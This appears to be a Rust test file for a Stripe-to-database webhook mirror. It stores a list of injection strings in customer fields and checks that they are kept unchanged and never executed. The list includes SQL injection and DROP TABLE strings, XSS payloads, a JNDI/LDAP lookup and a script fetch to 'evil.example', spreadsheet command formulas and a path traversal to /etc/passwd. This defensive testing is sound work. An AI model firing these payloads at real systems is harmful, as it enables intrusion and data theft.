//! Texts that are harmless only as long as nobody interprets them (W9): stored as they are.

use billhook_testkit::events::fresh_id;
use billhook_testkit::sign::now;
use serde_json::json;

use super::super::compare::as_json;
use super::super::fixtures::event;
use super::super::mirror::Mirror;
use super::{Case, row};

/// Id of the customer whose metadata holds all payloads.
const CUSTOMER: &str = "cus_with_payloads";

fn payloads() -> Vec<String> {
    let mut all: Vec<String> = [
        "'; DROP TABLE customers; --",
        "\"; DROP SCHEMA stripe CASCADE; --",
        "1' OR '1'='1",
        "$1",
        "?1",
        "%s%n%x",
        "$$; SELECT pg_sleep(100); $$",
        "<img src=x onerror=alert(1)>",
        "<script>fetch('//evil.example')</script>",
        "javascript:alert(1)",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(A1)",
        "-2+3",
        "\t=1+1",
        "\r\nSet-Cookie: a=b",
        "a\r\nBcc: everybody@example.com",
        "\u{1b}[2J\u{1b}]0;title\u{7}",
        "\u{202e}gnp.exe",
        "a\u{300}\u{200b}\u{200d}\u{feff}b",
        "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "\\",
        "\\u0041",
        "\\x41",
        "%00",
        "../../etc/passwd",
        "null",
        "undefined",
        "   ",
        "\u{7f}",
        "Zalgo\u{336}\u{489}",
        "\u{fdfd}",
        "${jndi:ldap://evil.example/a}",
    ]
    .map(str::to_owned)
    .to_vec();
    all.push("\u{1f600}".repeat(10_000));
    all.push("x".repeat(100_000));
    all
}

pub(super) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut metadata = serde_json::Map::new();
    for (at, payload) in payloads().into_iter().enumerate() {
        let id = fresh_id("cus_");
        let object = json!({ "id": id, "object": "customer", "name": payload, "description": payload });
        let event = event(&fresh_id("evt_1"), "customer.updated", now(), object);
        let columns = vec![("name", json!(payload)), ("description", json!(payload))];
        let shown: String = payload.chars().take(40).collect();
        cases.push(Case::event(format!("payload {shown:?}"), row("customers", id, columns), &event));
        metadata.insert(format!("{at} {shown}"), json!(payload));
    }
    let object = json!({ "id": CUSTOMER, "object": "customer", "metadata": metadata });
    let event = event(&fresh_id("evt_1"), "customer.updated", now(), object);
    cases.push(Case::event("all payloads in metadata", row("customers", CUSTOMER, vec![]), &event));
    cases
}

/// Nothing of it was taken for a command, and JSON columns hold it unchanged too.
pub(super) fn check_nothing_was_executed(mirror: &Mirror) {
    let metadata = as_json(mirror, &mirror.column("customers", CUSTOMER, "metadata"));
    let held: Vec<&str> = metadata.as_object().unwrap().values().filter_map(|value| value.as_str()).collect();
    let mut wanted = payloads();
    wanted.sort_unstable();
    let mut held: Vec<String> = held.into_iter().map(str::to_owned).collect();
    held.sort_unstable();
    assert!(held == wanted, "metadata on {} is not what was sent", mirror.dialect());
    let names = if mirror.is_postgres() {
        "SELECT count(*) AS made FROM information_schema.tables WHERE table_schema = 'stripe' AND table_type = 'BASE TABLE'"
    } else {
        "SELECT count(*) AS made FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'billhook_%' AND name NOT LIKE 'sqlite_%'"
    };
    let catalogued = billhook_stripe::catalogue::tables().len() as i64;
    let made = mirror.number(names);
    assert!((catalogued..=catalogued + 1).contains(&made), "{made} tables on {}, {catalogued} known", mirror.dialect());
}
